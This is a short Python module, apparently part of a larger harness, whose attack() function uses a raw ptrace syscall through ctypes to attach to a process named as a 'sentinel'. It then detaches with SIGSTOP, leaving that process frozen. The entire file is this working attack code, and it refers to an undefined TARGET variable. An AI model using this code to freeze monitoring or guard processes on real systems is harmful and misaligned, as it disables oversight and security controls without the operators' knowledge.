"""Seizes another process as a debugger would, by the bare system call, and stops it."""

import ctypes
import os
import platform

PTRACE = {"x86_64": 101, "aarch64": 117}
ATTACH, DETACH, SIGSTOP = 16, 17, 19


def attack(A):
    libc, pid = ctypes.CDLL(None, use_errno=True), TARGET["sentinel"]
    call = PTRACE[platform.machine()]
    if libc.syscall(*map(ctypes.c_long, (call, ATTACH, pid, 0, 0))):
        raise OSError(ctypes.get_errno(), "ptrace")
    libc.waitpid(pid, None, 0x40000000)
    libc.syscall(*map(ctypes.c_long, (call, DETACH, pid, 0, SIGSTOP)))
    os.sched_yield()
